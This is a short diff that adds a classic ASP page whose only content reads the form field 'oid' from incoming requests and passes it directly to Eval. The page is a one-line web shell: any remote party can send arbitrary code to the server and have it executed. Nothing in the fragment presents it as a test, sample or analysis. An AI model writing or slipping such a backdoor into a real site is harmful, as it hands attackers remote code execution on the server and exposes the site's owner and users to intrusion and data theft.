@@ -1,0 +1,6 @@
+<%
+Dim a, b
+a = Request.Form("oid")
+b = a
+Eval b
+%>
